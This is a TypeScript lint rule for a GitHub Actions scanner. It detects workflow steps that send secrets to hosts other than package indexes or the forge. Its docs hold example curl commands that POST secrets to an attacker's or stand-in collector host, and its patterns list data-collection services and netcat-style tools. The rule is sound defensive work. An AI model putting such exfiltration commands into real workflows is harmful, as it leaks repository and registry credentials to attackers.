import { commandCredentials, describeCredentials, isEmpty, scriptEnvironment, type ScriptEnvironment, type WordCredentials } from '../analysis/script-data.ts';
import { dataContexts } from '../analysis/credentials.ts';
import { DATA_OPTIONS, HEADER_OPTIONS, takesOtherValue } from '../analysis/http-client.ts';
import type { Severity } from '../findings/finding.ts';
import { secretName } from '../models/github/expressions.ts';
import type { ShellCommand, ShellWord } from '../models/shell/types.ts';
import { defineRule } from './rule.ts';

interface Config {
  'allowed-hosts'?: string[];
}

/** Hosts that legitimately receive credentials from release workflows. */
const DEFAULT_ALLOWED = [
  'pypi.org',
  'upload.pypi.org',
  'test.pypi.org',
  'api.github.com',
  'uploads.github.com',
  'github.com',
  'ghcr.io',
  'registry.npmjs.org',
  'crates.io',
  'rubygems.org',
  'api.nuget.org',
  'index.docker.io',
  'registry-1.docker.io',
  'hub.docker.com',
];

/** Services attackers use to collect stolen data; a secret sent there is never legitimate. */
const COLLECTORS = /(^|\.)(webhook\.site|requestbin\.(com|net)|pipedream\.net|m\.pipedream\.net|ngrok\.(io|app|dev)|ngrok-free\.app|interact\.sh|oast\.(fun|live|me|pro|site|online)|burpcollaborator\.net|canarytokens\.com|beeceptor\.com|hookbin\.com|plesk\.page|trycloudflare\.com|pastebin\.com|transfer\.sh|discord(app)?\.com|api\.telegram\.org)$/;


export default defineRule<Config>({
  meta: {
    id: 'secret-exfiltration',
    summary: 'secrets sent over the network to a host other than a package index or the forge',
    severity: 'critical',
    confidence: 'high',
    configSchema: {
      type: 'object',
      additionalProperties: false,
      properties: {
        'allowed-hosts': {
          type: 'array',
          items: { type: 'string' },
          description: 'Extra hosts (or *.domain suffixes) allowed to receive secrets.',
        },
      },
    },
    docs: {
      why: `The GhostAction campaign (September 2025) pushed a workflow named "Github Actions Security" into
817 repositories; its one step ran \`curl -s -X POST -d 'DOCKER_PASSWORD=\${{ secrets.DOCKER_PASSWORD }}&…'\`
to an attacker's server and collected 3,325 secrets, PyPI, npm, Docker Hub, GitHub, Cloudflare and AWS
tokens among them. The Shai-Hulud worm's workflow sent \`\${{ toJSON(secrets) }}\` to webhook.site. Log
masking does not help here: the secret leaves in the request body, never in the log.

A release workflow needs to send credentials only to the package index and the forge's API. Any other
destination in the body, form, upload or URL of a request is reported; critical when it sends every
secret, several secrets at once, or goes to a bare IP address or a known collection service. A secret
used only as an \`Authorization\` header to an unknown host is usually a normal API call and is
reported only for collection services and IP addresses.`,
      example: `on: [push, workflow_dispatch]
jobs:
  send-secrets:
    runs-on: ubuntu-latest
    steps:
      - run: curl -s -X POST -d 'PYPI_TOKEN=\${{ secrets.PYPI_TOKEN }}' https://collector.example`,
      fix: `If you did not write the step, treat every secret the workflow could read as stolen: revoke and
rotate them (PyPI: Account settings → API tokens), remove the workflow, and require review of
workflow changes (CODEOWNERS on \`.github/workflows/\`, branch protection). If the destination is yours,
add it to the allowlist:

\`\`\`yaml
rules:
  secret-exfiltration:
    config:
      allowed-hosts: [deploy.example.com]
\`\`\``,
      references: [
        'https://blog.pypi.org/posts/2025-09-16-github-actions-token-exfiltration/',
        'https://blog.gitguardian.com/ghostaction-campaign-3-325-secrets-stolen/',
        'https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#considering-cross-repository-access',
      ],
      options: '`allowed-hosts`: extra hosts allowed to receive secrets; `*.example.com` matches subdomains.',
    },
  },

  step(step, scope, context) {
    if (!step.run) return;
    const job = scope.kind === 'job' ? scope.job : undefined;
    const workflow = scope.kind === 'job' ? scope.workflow : undefined;
    const scriptScope = scriptEnvironment(step, job, workflow);
    const allowed = [...DEFAULT_ALLOWED, ...(context.config['allowed-hosts'] ?? [])];
    for (const command of step.run.parsed().commands) {
      const send = analyseSend(command, scriptScope);
      if (!send || isEmpty(send.payload)) continue;
      const host = send.host;
      if (host && isAllowed(host, allowed)) continue;
      if (host && isOwnService(host, send.payload)) continue;
      const collector = host !== null && (COLLECTORS.test(host) || isIpAddress(host));
      if (send.headerOnly && !collector) continue;
      const everySecret = send.payload.secrets.includes('*');
      const several = send.payload.secrets.filter((name) => name !== '*').length >= 2;
      if (!host && !everySecret) continue; // destination computed at run time: usually the secret's own service
      let severity: Severity = 'high';
      if (everySecret || several || collector || send.payload.fetchedTokens.length || send.payload.runnerCredentials.length) severity = 'critical';
      const destination = host ? `\`${host}\`${collector ? (isIpAddress(host) ? ' (a bare IP address)' : ' (a data-collection service)') : ''}` : 'a destination computed at run time';
      context.report({
        message: `\`${command.program}\` sends ${describeCredentials(send.payload)} to ${destination}, which is not a package index or the forge's API`,
        span: command.span,
        severity,
        key: `${step.route.join('/')}/${command.program}/${host ?? '?'}`,
      });
    }
  },
});

interface Send {
  host: string | null;
  payload: WordCredentials;
  /** Credentials travel only in headers (`Authorization: …`). */
  headerOnly: boolean;
}

function analyseSend(command: ShellCommand, scope: ScriptEnvironment): Send | null {
  const program = command.program;
  const upstream = command.pipeline.slice(0, command.pipelineIndex);
  const piped = upstream.length ? commandCredentials(upstream[upstream.length - 1]!, scope) : null;
  if (program === 'curl' || program === 'wget' || program === 'http' || program === 'https' || program === 'xh') {
    const dataWords: ShellWord[] = [];
    const headerWords: ShellWord[] = [];
    const urls: ShellWord[] = [];
    for (let i = 0; i < command.args.length; i++) {
      const word = command.args[i]!;
      const [flag, inline] = splitFlag(word.text);
      if (DATA_OPTIONS.test(flag)) {
        if (inline === undefined && command.args[i + 1]) dataWords.push(command.args[++i]!);
        else dataWords.push(word);
      } else if (HEADER_OPTIONS.test(flag)) {
        if (inline === undefined && command.args[i + 1]) headerWords.push(command.args[++i]!);
        else headerWords.push(word);
      } else if (inline === undefined && takesOtherValue(program, flag)) {
        i++; // `-o out.json`, `-X POST`: neither sent nor the address
      } else if (flag === '--url' && command.args[i + 1]) {
        urls.push(command.args[++i]!);
      } else if (/^(https?|ftp):\/\//i.test(word.text) || (!word.text.startsWith('-') && /^[\w.-]+\.[a-z]{2,}(\/|$)/i.test(word.text))) {
        urls.push(word);
      } else if (!word.text.startsWith('-') && (program === 'http' || program === 'https' || program === 'xh') && /[=:]/.test(word.text)) {
        dataWords.push(word);
      }
    }
    const url = urls[0];
    const host = url ? hostOf(url.text) : null;
    const data = merge(commandCredentials(command, scope, dataWords), piped && dataWords.some((word) => /^@-$|^-$/.test(word.text)) ? piped : null);
    // A secret in the URL is sent too, unless it is the whole URL (a webhook address kept in a secret).
    const urlCredentials = url && host ? commandCredentials(command, scope, [url]) : null;
    const payload = merge(data, urlCredentials);
    if (!isEmpty(payload)) return { host, payload, headerOnly: false };
    const headers = commandCredentials(command, scope, headerWords);
    if (!isEmpty(headers)) return { host, payload: headers, headerOnly: true };
    return null;
  }
  if (/^(nc|ncat|netcat|socat|telnet)$/.test(program)) {
    const host = command.args.map((word) => word.text).find((text) => !text.startsWith('-') && /[a-z0-9]\.[a-z0-9]|^\d+\.\d+\.\d+\.\d+$/i.test(text));
    if (!piped) return null;
    return { host: host ? host.replace(/^.*?:/, '').replace(/:.*$/, '') : null, payload: piped, headerOnly: false };
  }
  if (/^(python[0-9.]*|node|ruby|perl|php)$/.test(program)) {
    const code = command.args.find((word, index) => index > 0 && /^-(c|e)$/.test(command.args[index - 1]!.text));
    if (!code || !/https?:\/\//.test(code.raw) || !/(urlopen|requests\.|fetch\(|http\.request|Net::HTTP|LWP|curl_exec|urllib)/.test(code.raw)) return null;
    const url = /https?:\/\/[^\s'"`)]+/.exec(code.raw)?.[0];
    const payload = commandCredentials(command, scope, [code]);
    const viaEnv = environmentSecrets(scope, environmentReads(code.raw));
    return { host: url ? hostOf(url) : null, payload: merge(payload, viaEnv), headerOnly: false };
  }
  return null;
}

const NAMED_ENV_READ = /os\.environ\[\s*['"](\w+)['"]\s*\]|os\.environ\.get\(\s*['"](\w+)['"]|os\.getenv\(\s*['"](\w+)['"]|process\.env\.(\w+)|process\.env\[\s*['"](\w+)['"]\s*\]|ENV\[\s*['"](\w+)['"]\s*\]|\$ENV\{\s*['"]?(\w+)['"]?\s*\}/g;
const ANY_ENV_READ = /os\.environ|os\.getenv|process\.env|ENV\[|\$ENV/;

/**
 * Environment variables an inline program reads: the names it reads one by one, or `null` when it
 * reads the environment as a whole (`dict(os.environ)`, `JSON.stringify(process.env)`), which
 * sends everything. Empty when it reads none.
 */
function environmentReads(code: string): Set<string> | null {
  const names = new Set<string>();
  for (const match of code.matchAll(NAMED_ENV_READ)) names.add(match.slice(1).find((group) => group !== undefined)!);
  return ANY_ENV_READ.test(code.replace(NAMED_ENV_READ, '')) ? null : names;
}

function environmentSecrets(scope: ScriptEnvironment, names: Set<string> | null): WordCredentials {
  const secrets = new Set<string>();
  for (const [name, binding] of scope.env) {
    if (names && !names.has(name)) continue;
    for (const expression of binding.entry.expressions) {
      for (const ref of dataContexts(expression)) {
        const name = secretName(ref);
        if (name !== null) secrets.add(name);
      }
    }
  }
  return { secrets: [...secrets], runnerCredentials: [], fetchedTokens: [] };
}

function merge(a: WordCredentials, b: WordCredentials | null): WordCredentials {
  if (!b) return a;
  return {
    secrets: [...new Set([...a.secrets, ...b.secrets])],
    runnerCredentials: [...new Set([...a.runnerCredentials, ...b.runnerCredentials])],
    fetchedTokens: [...new Set([...a.fetchedTokens, ...b.fetchedTokens])],
  };
}

function splitFlag(text: string): [string, string | undefined] {
  if (text.startsWith('--')) {
    const equals = text.indexOf('=');
    return equals === -1 ? [text, undefined] : [text.slice(0, equals), text.slice(equals + 1)];
  }
  // `-dDATA` short flags with the value attached.
  if (/^-[dFTHu]./.test(text)) return [text.slice(0, 2), text.slice(2)];
  return [text, undefined];
}

/** Host of a URL written literally; null when it comes from a variable or an expression. */
export function hostOf(url: string): string | null {
  const match = /^(?:[a-z][a-z0-9+.-]*:\/\/)?(?:[^@/\s]*@)?(\[[^\]]+\]|[^:/?#\s]+)/i.exec(url.trim());
  const host = match?.[1]?.toLowerCase();
  if (!host || host.includes('$') || host.includes('_____') || host.includes('{')) return null;
  return host;
}

function isAllowed(host: string, allowed: string[]): boolean {
  return allowed.some((entry) => {
    const pattern = entry.toLowerCase();
    if (pattern.startsWith('*.')) return host.endsWith(pattern.slice(1)) || host === pattern.slice(2);
    return host === pattern;
  });
}

/** Names of package indexes and forges: their tokens go to the allowed hosts, never to look-alikes. */
const INDEX_WORDS = new Set(['pypi', 'npm', 'npmjs', 'github', 'gh', 'docker', 'dockerhub', 'cargo', 'crates', 'rubygems', 'gem', 'nuget']);

/**
 * Every secret sent is named after the host's service: \`CODECOV_TOKEN\` to \`codecov.io\`,
 * \`TELEGRAM_BOT_TOKEN\` to \`api.telegram.org\`. That is the secret doing its job (a bot token in the
 * bot API's URL), not theft: a stolen secret is sent to the attacker's host, which the victim's
 * secret names do not match. Secrets of package indexes are excluded, so \`PYPI_TOKEN\` to a
 * \`pypi.example\` look-alike is still reported.
 */
function isOwnService(host: string, payload: WordCredentials): boolean {
  if (payload.runnerCredentials.length || payload.fetchedTokens.length || !payload.secrets.length || payload.secrets.includes('*')) return false;
  if (isIpAddress(host)) return false;
  const labels = host.split('.');
  const service = labels.length >= 2 ? labels[labels.length - 2]! : '';
  if (!service || INDEX_WORDS.has(service)) return false;
  return payload.secrets.every((name) => name.toLowerCase().split(/[_-]+/).includes(service));
}

function isIpAddress(host: string): boolean {
  return /^\d{1,3}(\.\d{1,3}){3}$/.test(host) || host.startsWith('[');
}
